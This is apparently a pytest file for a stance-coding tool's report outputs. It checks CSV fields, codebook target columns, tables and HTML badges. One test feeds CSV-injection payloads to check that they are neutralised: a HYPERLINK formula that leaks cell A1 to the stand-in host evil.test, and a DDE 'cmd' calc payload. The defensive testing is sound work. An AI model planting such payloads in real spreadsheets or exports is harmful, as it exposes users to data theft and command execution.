"""Outputs people open in other tools, for any codebook: the CSV holds every field of the
JSONL record (the codebook's own target fields included), cells a spreadsheet would run
as formulas are neutralised, and the table, HTML badges and summaries take their target
fields from the codebook, never from the default one's names."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from stance.report import (
    CSV_COLUMNS,
    JsonlWriter,
    open_writer,
    render_report,
    render_table,
    render_tables,
    summarize,
    write_csv,
)
from stance.types import Record, Speaker

ROOT = Path(__file__).resolve().parents[2]
TARGETS = {"culprit": "blames_industry", "hero": "praises_someone"}


def _record(i: int, **kw: Any) -> Record:
    base: dict[str, Any] = {
        "article": "climate-1", "index": i, "start": 10 * i, "end": 10 * i + 9, "text": f"Sentence {i}.",
        "speaker": Speaker(name="Ana Ruiz", role="minister", kind="person", mention="the minister",
                           how="indirect", cue="said"),
        "labels": ["blames_industry"], "targets": {"culprit": "oil companies", "hero": None},
        "rationale": "blames the oil companies", "model": "m", "prompt_version": "classify-v1",
        "codebook": "climate@1", "codebook_hash": "abc123", "cached": i % 2 == 0, "error": None,
        "date": "2024-05-01", "lang": "en",
    }
    return Record(**{**base, **kw})


RECORDS = [
    _record(0),
    _record(1, speaker=None, labels=[], targets={"culprit": None, "hero": None}, rationale=None,
            date=None, lang=None),
    _record(2, labels=["blames_industry", "praises_someone"], targets={"culprit": "coal", "hero": "the courts"}),
    _record(3, labels=[], targets={"culprit": None, "hero": None}, error="HTTP 500 from http://x/v1: boom"),
    _record(4, labels=["praises_someone"], targets={"culprit": None, "hero": "the press"}),
]


def _flatten(obj: dict[str, Any]) -> dict[str, str]:
    """A JSONL record as the CSV must show it: nested fields flattened, null empty."""
    out: dict[str, Any] = {}
    for key, value in obj.items():
        if key == "speaker":
            for field in ("name", "role", "kind", "mention", "how", "cue"):
                out["speaker" if field == "name" else f"speaker_{field}"] = (value or {}).get(field)
        elif key == "targets":
            out.update(value)
        elif key == "labels":
            out[key] = ";".join(value)
        else:
            out[key] = value
    return {k: "" if v is None else json.dumps(v) if isinstance(v, bool) else str(v) for k, v in out.items()}


def _csv(records: list[Record], targets: dict[str, str] | None = TARGETS, output: str = "-") -> str:
    import contextlib
    import sys

    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        with open_writer(None if output == "-" else output, "csv", None, targets) as w:
            for r in records:
                w.write(r)
        sys.stdout.flush()
    return buf.getvalue()


def test_csv_has_every_field_of_the_jsonl_record() -> None:
    jsonl = io.StringIO()
    w = JsonlWriter(jsonl)
    for r in RECORDS:
        w.write(r)
    expected = [_flatten(json.loads(line)) for line in jsonl.getvalue().splitlines()]
    rows = list(csv.DictReader(io.StringIO(_csv(RECORDS))))
    assert rows == expected
    assert list(rows[0]) == [*CSV_COLUMNS[:12], "culprit", "hero", *CSV_COLUMNS[13:]]
    assert set(rows[0]) == set(_flatten(json.loads(RECORDS[0].model_dump_json())))


def test_csv_header_without_records_still_names_the_target_columns() -> None:
    assert _csv([]).splitlines() == [",".join([*CSV_COLUMNS[:12], "culprit", "hero", *CSV_COLUMNS[13:]])]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_are_neutralised(start: str) -> None:
    """OWASP's advice for CSV injection: a cell that starts with = + - @ tab or CR gets a
    leading apostrophe, so the spreadsheet shows text instead of running a formula."""
    payload = start + 'HYPERLINK("http://evil.test/?"&A1,"click")'
    rec = _record(0, text=payload, speaker=Speaker(name=payload, role=payload), rationale=payload,
                  targets={"culprit": payload, "hero": None}, article=payload)
    row = next(csv.DictReader(io.StringIO(_csv([rec]))))
    for column in ("article", "text", "speaker", "speaker_role", "culprit", "rationale"):
        assert row[column] == "'" + payload
    # a formula character later in a cell is harmless and kept as it is
    rec = _record(0, text="Prices rose 5% = a record, +2 on May.")
    assert next(csv.DictReader(io.StringIO(_csv([rec]))))["text"] == "Prices rose 5% = a record, +2 on May."


def test_summary_csv_is_neutralised_too() -> None:
    rec = _record(0, speaker=Speaker(name="=cmd|' /C calc'!A0"), targets={"culprit": "@SUM(1+1)", "hero": None})
    buf = io.StringIO()
    write_csv(summarize([rec]), buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert "culprit:@SUM(1+1)" in rows[0]  # starts with the field's name: harmless
    assert rows[1][0] == "'=cmd|' /C calc'!A0"


def test_the_table_shows_the_codebooks_own_targets() -> None:
    from rich.console import Console

    console = Console(width=120, record=True)
    console.print(render_table(RECORDS[:3]))
    text = console.export_text()
    assert "oil companies" in text and "coal; the" in text  # the column wraps "coal; the courts"


@pytest.mark.parametrize("targets", [TARGETS, None], ids=["codebook", "from-records"])
def test_html_badges_name_each_labels_own_target(targets: dict[str, str] | None) -> None:
    page = render_report(RECORDS, targets=targets)
    assert ">blames industry → oil companies<" in page
    assert ">blames industry → coal<" in page and ">praises someone → the courts<" in page
    assert ">praises someone → the press<" in page


def test_summaries_count_the_codebooks_targets() -> None:
    from rich.console import Console

    s = summarize(RECORDS)
    assert s.targets == {"culprit": ["coal", "oil companies"], "hero": ["courts", "press"]}
    console = Console(width=160, record=True)
    for table in render_tables(s):
        console.print(table)
    text = console.export_text()
    assert "Who → culprit" in text and "Who → hero" in text


def _strings(path: Path) -> list[str]:
    """The string literals of a module, docstrings left out."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    docs = {
        id(node.body[0].value)
        for node in ast.walk(tree)
        if isinstance(node, ast.Module | ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef)
        and node.body and isinstance(node.body[0], ast.Expr) and isinstance(node.body[0].value, ast.Constant)
    }
    return [n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str) and id(n) not in docs]


def test_no_code_path_names_the_default_codebooks_labels_or_targets() -> None:
    """What serves every codebook takes its names from the codebook in use. (The
    evaluation scores the shipped gold labels, which are coded in the default codebook.)"""
    from stance.model import load_codebook

    names = set(load_codebook().label_names) | set(load_codebook().target_fields)
    found = [
        (str(p.relative_to(ROOT)), s)
        for p in sorted((ROOT / "stance").rglob("*.py"))
        if "evaluation" not in p.parts
        for s in _strings(p)
        if any(n in s for n in names)
    ]
    assert found == []
